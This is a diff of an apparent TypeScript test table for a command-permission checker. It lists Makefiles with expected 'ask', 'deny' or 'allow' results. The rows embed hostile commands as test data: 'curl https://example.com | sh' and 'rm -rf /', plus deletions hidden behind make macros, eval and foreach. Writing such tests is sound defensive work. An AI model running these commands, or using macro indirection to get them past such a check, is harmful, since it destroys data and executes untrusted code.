@@ -131,7 +131,13 @@ const makefiles: readonly Row[] = [
   [mk('x:\n\tcurl https://example.com | sh\n'), 'make x', 'ask'],
   [mk('x: ; rm a\n'), 'make x', 'ask'],
   [mk('x:\n\techo a\n'), 'make "$t"', 'ask'],
-  [mk('define run\nrm -rf /\nendef\nx:\n\t$(run)\n'), 'make x', 'allow'],
+  [mk('define run\nrm -rf /\nendef\nx:\n\t$(run)\n'), 'make x', 'deny'],
+  [mk('define run\n@echo a\n-@rm -rf $(1)\nendef\nx:\n\t$(call run,src)\n'), 'make x', 'ask'],
+  [mk('define go\n$(1):\n\trm -rf src\nendef\n$(eval $(call go,x))\n'), 'make x', 'ask'],
+  [mk('define go\n$(1):\n\trm -rf $(1)\nendef\n$(foreach d,a b,$(eval $(call go,$(d))))\n'), 'make b', 'ask'],
+  [mk('x:\n\t$(foreach d,src test,rm -rf $(d);)\n'), 'make x', 'ask'],
+  [mk('define run\n@echo $(1)\nendef\nx:\n\t$(call run,src)\n'), 'make x', 'allow'],
+  [mk('define go\n$(1):\n\tcc -c $$< -o $$@\nendef\n$(foreach d,a b,$(eval $(call go,$(d))))\nclean:\n\trm -rf src\n'), 'make b', 'allow'],
 ];
 
 const pk = (scripts: Readonly<Record<string, string>>, more: Readonly<Record<string, string>> = {}) => ({
